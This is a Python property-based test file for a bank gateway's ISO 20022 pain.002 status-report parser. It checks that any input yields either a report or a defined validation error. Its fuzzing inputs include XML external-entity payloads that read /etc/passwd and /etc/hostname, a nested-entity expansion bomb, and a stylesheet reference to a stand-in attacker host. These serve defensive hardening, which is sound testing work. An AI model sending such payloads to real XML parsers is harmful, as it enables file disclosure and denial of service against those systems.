"""Property: whatever the bank answers to a status request, ``parse_pain002`` gives a status
report or raises ``InvalidStatusReport`` (the document is asked again later): never another
exception, whatever the bytes, the XML tricks or the cut (ADR 0017). Written against the
public function and its error only, so it holds for any implementation of the parser."""

from __future__ import annotations

from xml.sax.saxutils import escape

from bank_gateway.errors import InvalidStatusReport
from bank_gateway.pain002 import StatusReport, parse_pain002
from hypothesis import example, given
from hypothesis import strategies as st

NS = "urn:iso:std:iso:20022:tech:xsd:pain.002.001.10"
XML_TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=50
).map(lambda t: "".join(c for c in t if c in "\t\n\r" or ord(c) >= 0x20))
CODES = st.one_of(st.sampled_from(["ACSC", "ACCC", "RJCT", "PDNG", "AC04", "MD07", ""]), XML_TEXT)
TRICKS = [
    b'<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>',
    b"<?xml-stylesheet href='http://attacker.example/x.xsl'?>",
    b"",
]


def document(msg_id: str, group: str, transactions: list[tuple[str, str, str]]) -> str:
    txs = "".join(
        f"<TxInfAndSts><OrgnlEndToEndId>{escape(e2e)}</OrgnlEndToEndId><TxSts>{escape(sts)}"
        f"</TxSts><StsRsnInf><Rsn><Cd>{escape(why)}</Cd></Rsn></StsRsnInf></TxInfAndSts>"
        for e2e, sts, why in transactions
    )
    return (
        f'<Document xmlns="{NS}"><CstmrPmtStsRpt><OrgnlGrpInfAndSts>'
        f"<OrgnlMsgId>{escape(msg_id)}</OrgnlMsgId><GrpSts>{escape(group)}</GrpSts>"
        f"</OrgnlGrpInfAndSts><OrgnlPmtInfAndSts>{txs}</OrgnlPmtInfAndSts>"
        "</CstmrPmtStsRpt></Document>"
    )


@st.composite
def reports(draw: st.DrawFn) -> bytes:
    transactions = draw(st.lists(st.tuples(XML_TEXT, CODES, CODES), max_size=4))
    text = document(draw(XML_TEXT), draw(CODES), transactions)
    encoding = draw(st.sampled_from(["utf-8", "utf-16", "latin-1"]))
    head = f'<?xml version="1.0" encoding="{encoding}"?>'.encode(encoding)
    body = head + draw(st.sampled_from(TRICKS)) + text.encode(encoding, "replace")
    cut = draw(st.integers(0, len(body)))
    return body[: cut if draw(st.booleans()) else len(body)]


def parsed_or_refused(xml: bytes) -> StatusReport | None:
    try:
        return parse_pain002(xml)
    except InvalidStatusReport:
        return None


@given(st.binary(max_size=400))
@example(b"")
@example(b"\x00\x00\x00")
@example(b'<?xml version="1.0" encoding="no-such-encoding"?><Document/>')
def test_any_bytes_are_a_report_or_an_invalid_status_report(xml: bytes) -> None:
    parsed_or_refused(xml)


@given(reports())
def test_any_status_document_is_a_report_or_an_invalid_status_report(xml: bytes) -> None:
    report = parsed_or_refused(xml)
    if report is not None:
        for status in report.transactions.values():
            assert status.outcome in ("settled", "rejected", "pending")


def test_an_external_entity_is_never_fetched_into_a_report() -> None:
    reason = "<StsRsnInf><Rsn><Prtry>&x;</Prtry></Rsn></StsRsnInf>"
    xml = document("MSG1", "RJCT", []).replace("</GrpSts>", "</GrpSts>" + reason)
    doctype = '<!DOCTYPE Document [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
    report = parsed_or_refused((doctype + xml).encode())
    assert report is None or not report.group_reason
